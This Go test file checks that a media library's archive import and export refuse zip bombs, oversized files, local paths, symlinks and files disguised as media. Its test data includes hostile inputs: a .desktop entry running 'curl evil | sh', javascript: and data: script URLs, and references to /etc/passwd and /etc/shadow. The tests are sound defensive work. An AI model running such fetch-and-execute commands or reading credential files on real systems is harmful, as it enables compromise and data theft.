package storage

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// zipOf writes entries (deflated) and returns the archive's path.
func zipOf(t testing.TB, entries ...entry) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "a.zip")
	f, err := os.Create(p)
	check(t, err)
	zw := zip.NewWriter(f)
	for _, e := range entries {
		w, err := zw.Create(e.name)
		check(t, err)
		_, err = io.WriteString(w, e.body)
		check(t, err)
	}
	check(t, zw.Close())
	check(t, f.Close())
	return p
}

func manifestOf(t testing.TB, items ...exportedItem) string {
	t.Helper()
	b, err := json.Marshal(manifest{Format: "pollinations-studio-library", Version: manifestVersion, Items: items})
	check(t, err)
	return string(b)
}

// nothingWritten fails if an import left media or temporary files behind.
func nothingWritten(t *testing.T, l *Library) {
	t.Helper()
	var files []string
	filepath.Walk(filepath.Join(l.Dir(), "media"), func(p string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			files = append(files, p)
		}
		return nil
	})
	if len(files) != 0 {
		t.Fatalf("written before refusing: %v", files)
	}
}

// A small archive that unpacks to a lot (zeros deflate about 1000:1), a media file larger than
// the library takes, and an archive larger than the free disk are all refused before anything
// is written.
func TestImportRefusesBombsAndWhatTheDiskCannotTake(t *testing.T) {
	ctx := context.Background()
	zeros := pngSig + strings.Repeat("\x00", 8<<20)
	bomb := zipOf(t, entry{"manifest.json", manifestOf(t, exportedItem{Item: Item{Kind: KindImage, MediaHash: hashName(zeros, ".png")}})},
		entry{"media/" + hashName(zeros, ".png"), zeros})
	if st, _ := os.Stat(bomb); st.Size() > 1<<20 {
		t.Fatalf("the bomb is %d bytes: not a bomb", st.Size())
	}
	img := pngSig + strings.Repeat("pixels", 1000)
	plain := zipOf(t, entry{"manifest.json", manifestOf(t, exportedItem{Item: Item{Kind: KindImage, MediaHash: hashName(img, ".png")}})},
		entry{"media/" + hashName(img, ".png"), img})
	for name, tc := range map[string]struct {
		zip  string
		lim  func(*importLimits)
		want error
	}{
		"zip bomb":                  {bomb, func(*importLimits) {}, ErrBadArchive},
		"larger than a file may be": {plain, func(l *importLimits) { l.file = 1000 }, ErrBadArchive},
		"more than the free disk":   {plain, func(l *importLimits) { l.free = func(string) (uint64, bool) { return 64<<20 + 100, true } }, ErrNoSpace},
	} {
		t.Run(name, func(t *testing.T) {
			l := openTemp(t)
			tc.lim(&l.limits)
			_, err := l.Import(ctx, tc.zip)
			if !errors.Is(err, tc.want) {
				t.Fatalf("got %v, want %v", err, tc.want)
			}
			nothingWritten(t, l)
		})
	}
	// The plain one, with the real limits, is fine.
	l := openTemp(t)
	if rep, err := l.Import(ctx, plain); err != nil || rep.Added != 1 {
		t.Fatalf("a plain archive: %+v %v", rep, err)
	}
}

// An archive's items keep only what a generation of their kind can contain: no local paths or
// non-web URLs in parameters and references (Remix would upload /etc/passwd), media only of an
// allowed type whose content matches it (no .desktop "video" for Open in player).
func TestImportKeepsOnlyWhatAGenerationCanContain(t *testing.T) {
	ctx := context.Background()
	img := pngSig + "a real picture"
	ih := hashName(img, ".png")
	hostile := exportedItem{Item: Item{Kind: KindImage, Prompt: "/imagine a cat: file:///x", MediaHash: ih,
		Params: json.RawMessage(`{"prompt":"/imagine a cat","ref_files":["/etc/passwd"],"ref_urls":["javascript:alert(1)","https://example.com/ok.png","file:///etc/shadow"],
			"start_frame":"C:\\Users\\me\\secret.png","image":"data:text/html,<script>","width":64}`),
		References: []string{"/etc/passwd", "file:///etc/passwd", "javascript:alert(1)", "https://example.com/r.png", ih}}}
	chat := exportedItem{Item: Item{Kind: KindChat, Prompt: "chat"}, Messages: []Message{{ID: 1, Role: "user", Content: "look",
		Attachments: []string{"/home/me/secret.png", ih}}}}
	l := openTemp(t)
	rep := must[ImportReport](t)(l.Import(ctx, zipOf(t, entry{"manifest.json", manifestOf(t, hostile, chat)}, entry{"media/" + ih, img})))
	if rep.Added != 2 {
		t.Fatalf("report %+v", rep)
	}
	ids := must[[]int64](t)(l.IDs(ctx, Query{Sort: SortOldest}))
	got := must[*Item](t)(l.Item(ctx, ids[0]))
	var params map[string]any
	check(t, json.Unmarshal(got.Params, &params))
	want := map[string]any{"prompt": "/imagine a cat", "ref_urls": []any{"https://example.com/ok.png"}, "width": float64(64)}
	if fmt.Sprint(params) != fmt.Sprint(want) {
		t.Errorf("params kept %v, want %v", params, want)
	}
	if got.Prompt != hostile.Prompt {
		t.Errorf("the prompt is words, kept as is: %q", got.Prompt)
	}
	if fmt.Sprint(got.References) != fmt.Sprint([]string{"https://example.com/r.png", ih}) {
		t.Errorf("references kept %v", got.References)
	}
	files, urls := l.RemixReferences(got)
	if len(files) != 1 || files[0] != must[string](t)(l.SafeMediaPath(l.MediaPath(ih))) || len(urls) != 1 {
		t.Errorf("remix would send %v %v", files, urls)
	}
	msgs := must[[]Message](t)(l.allMessages(ctx, ids[1]))
	if len(msgs) != 1 || fmt.Sprint(msgs[0].Attachments) != fmt.Sprint([]string{l.MediaPath(ih)}) {
		t.Errorf("attachments kept %+v", msgs)
	}

	desktop := "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"
	text := "just text, named like a video"
	for name, zipPath := range map[string]string{
		".desktop video": zipOf(t, entry{"manifest.json", manifestOf(t, exportedItem{Item: Item{Kind: KindVideo, MediaHash: hashName(desktop, ".desktop")}})},
			entry{"media/" + hashName(desktop, ".desktop"), desktop}),
		"text named .mp4": zipOf(t, entry{"manifest.json", manifestOf(t, exportedItem{Item: Item{Kind: KindVideo, MediaHash: hashName(text, ".mp4")}})},
			entry{"media/" + hashName(text, ".mp4"), text}),
		"image named .mp3": zipOf(t, entry{"manifest.json", manifestOf(t, exportedItem{Item: Item{Kind: KindSpeech, MediaHash: hashName(img, ".mp3")}})},
			entry{"media/" + hashName(img, ".mp3"), img}),
	} {
		l := openTemp(t)
		if _, err := l.Import(ctx, zipPath); !errors.Is(err, ErrBadArchive) {
			t.Errorf("%s: got %v, want ErrBadArchive", name, err)
		}
		nothingWritten(t, l)
	}
}

// What the window opens or uploads from an item must be a media file of the library.
func TestSafeMediaPath(t *testing.T) {
	l := openTemp(t)
	ctx := context.Background()
	it := addImage(t, l, "x", []byte("pixels"), time.Now())
	if p, err := l.ItemMediaPath(it); err != nil || p == "" {
		t.Fatalf("the item's own media: %q %v", p, err)
	}
	outside := filepath.Join(t.TempDir(), "secret.png")
	check(t, os.WriteFile(outside, []byte(pngSig), 0o600))
	link := filepath.Join(l.Dir(), "media", it.MediaHash[:2], strings.Repeat("a", 64)+".png")
	check(t, os.Symlink(outside, link))
	desk := must[string](t)(l.putMedia(ctx, strings.NewReader("[Desktop Entry]"), ".desktop", "", 1<<20))
	for _, p := range []string{"/etc/passwd", outside, link, l.MediaPath(desk),
		filepath.Join(l.Dir(), "media", it.MediaHash[:2], "..", "..", "library.db"), filepath.Join(l.Dir(), "library.db"), ""} {
		if _, err := l.SafeMediaPath(p); !errors.Is(err, ErrOutsideLibrary) {
			t.Errorf("%q: got %v, want ErrOutsideLibrary", p, err)
		}
	}
	if _, err := l.ItemMediaPath(&Item{MediaHash: desk}); !errors.Is(err, ErrOutsideLibrary) {
		t.Errorf(".desktop media: %v", err)
	}
}

// An export carries the library's copies of reference files and attachments, never the paths
// they were picked from on the user's disk.
func TestExportCarriesNoLocalPaths(t *testing.T) {
	l := openTemp(t)
	ctx := context.Background()
	ref := addImage(t, l, "the reference", []byte("ref"), time.Now())
	it := addImage(t, l, "an edit", []byte("edit"), time.Now())
	it.Params = json.RawMessage(`{"prompt":"an edit","ref_files":["/home/me/Private Photos/ref.png"],"ref_urls":["https://example.com/a.png"]}`)
	it.References = []string{"https://example.com/a.png", ref.MediaHash}
	check(t, l.UpdateItem(ctx, it))
	tr := &Item{Kind: KindTranscript, Prompt: "call.wav", Text: "hi", Params: json.RawMessage(`{"file":"/home/me/calls/call.wav","model":"whisper"}`)}
	must[int64](t)(l.AddItem(ctx, tr))
	chat := must[int64](t)(l.NewChat(ctx, "c", "openai", ""))
	must[int64](t)(l.AddMessage(ctx, &Message{ChatID: chat, Role: "user", Content: "see", Attachments: []string{"/home/me/Desktop/x.png", ref.MediaPath}}))
	var buf bytes.Buffer
	check(t, l.Export(ctx, nil, &buf))
	zr := must[*zip.Reader](t)(zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len())))
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		if f.Name != "manifest.json" {
			continue
		}
		rc := must[io.ReadCloser](t)(f.Open())
		b := must[[]byte](t)(io.ReadAll(rc))
		rc.Close()
		for _, leak := range []string{"/home/me", l.Dir()} {
			if bytes.Contains(b, []byte(leak)) {
				t.Errorf("the manifest carries %q:\n%s", leak, b)
			}
		}
	}
	if !strings.Contains(strings.Join(names, " "), ref.MediaHash) {
		t.Errorf("the reference's media is not in the archive: %v", names)
	}
	// Imported elsewhere, the edit still names its reference, now as that library's media.
	dst := openTemp(t)
	zp := filepath.Join(t.TempDir(), "x.zip")
	check(t, os.WriteFile(zp, buf.Bytes(), 0o600))
	must[ImportReport](t)(dst.Import(ctx, zp))
	page := must[Page](t)(dst.Search(ctx, Query{Text: "an edit"}))
	if len(page.Items) != 1 {
		t.Fatalf("imported %d", len(page.Items))
	}
	got := must[*Item](t)(dst.Item(ctx, page.Items[0].ID))
	if files, urls := dst.RemixReferences(got); len(files) != 1 || len(urls) != 1 {
		t.Fatalf("remix of the imported edit: %v %v", files, urls)
	}
}

// An import holds the write lock a batch at a time: a generation saved from another connection
// (the window, while a command imports) between batches is not told "database is locked".
func TestGenerationsProceedDuringALargeImport(t *testing.T) {
	ctx := context.Background()
	at := time.Now().Truncate(time.Millisecond)
	var items []exportedItem
	for i := 0; i < 3*importBatch; i++ {
		items = append(items, exportedItem{Item: Item{Kind: KindText, Prompt: fmt.Sprintf("same time %d", i), CreatedAt: at}})
	}
	zp := zipOf(t, entry{"manifest.json", manifestOf(t, items...)})
	l := openTemp(t)
	other := must[*Library](t)(Open(ctx, l.Dir()))
	defer other.Close()
	var batches, saved int
	l.afterImportBatch = func(added int) {
		batches++
		// Another connection writes between two batches, with no wait at all allowed.
		cctx, cancel := context.WithTimeout(ctx, time.Second)
		defer cancel()
		if _, err := other.AddItem(cctx, &Item{Kind: KindImage, Prompt: fmt.Sprintf("generated after %d", added)}); err != nil {
			t.Errorf("a generation during the import: %v", err)
			return
		}
		saved++
	}
	rep := must[ImportReport](t)(l.Import(ctx, zp))
	if rep.Added != len(items) || batches != 3 || saved != 3 {
		t.Fatalf("report %+v, %d batches, %d generations saved", rep, batches, saved)
	}
	// Imported again: all skipped, by the index.
	l.afterImportBatch = nil
	if rep := must[ImportReport](t)(l.Import(ctx, zp)); rep.Added != 0 || rep.Skipped != len(items) {
		t.Fatalf("second import %+v", rep)
	}
}

// A failure in a later batch takes back the items of the earlier ones.
func TestBatchedImportIsStillAllOrNothing(t *testing.T) {
	ctx := context.Background()
	var items []exportedItem
	for i := 0; i < importBatch+5; i++ {
		items = append(items, exportedItem{Item: Item{Kind: KindText, Prompt: fmt.Sprintf("item %d", i), CreatedAt: time.Now()}})
	}
	items = append(items, exportedItem{Item: Item{Kind: KindTranscript, Prompt: "bad"}, Segments: []Segment{{Start: 5, End: 1}}})
	l := openTemp(t)
	_, err := l.Import(ctx, zipOf(t, entry{"manifest.json", manifestOf(t, items...)}))
	if !errors.Is(err, ErrBadArchive) || !strings.Contains(err.Error(), "nothing was added") {
		t.Fatalf("got %v", err)
	}
	if n, _ := l.Count(ctx, Query{}); n != 0 {
		t.Fatalf("%d items left by a failed import", n)
	}
	if p, _ := l.Search(ctx, Query{Text: "item"}); len(p.Items) != 0 {
		t.Fatalf("search still finds %d", len(p.Items))
	}
}

// BenchmarkImportSameTime imports 40 000 text items that share kind and creation time (a
// script's output, an export of an export) into an empty library: each is checked against the
// items already there, which must cost an index lookup, not a scan of the others.
func BenchmarkImportSameTime(b *testing.B) {
	ctx := context.Background()
	at := time.Now().Truncate(time.Millisecond)
	items := make([]exportedItem, 40_000)
	for i := range items {
		items[i] = exportedItem{Item: Item{Kind: KindText, Prompt: fmt.Sprintf("line %d", i), Text: "x", CreatedAt: at}}
	}
	zp := zipOf(b, entry{"manifest.json", manifestOf(b, items...)})
	for b.Loop() {
		b.StopTimer()
		l, err := Open(ctx, b.TempDir())
		check(b, err)
		b.StartTimer()
		rep, err := l.Import(ctx, zp)
		b.StopTimer()
		if err != nil || rep.Added != len(items) {
			b.Fatalf("%+v %v", rep, err)
		}
		l.Close()
		b.StartTimer()
	}
}
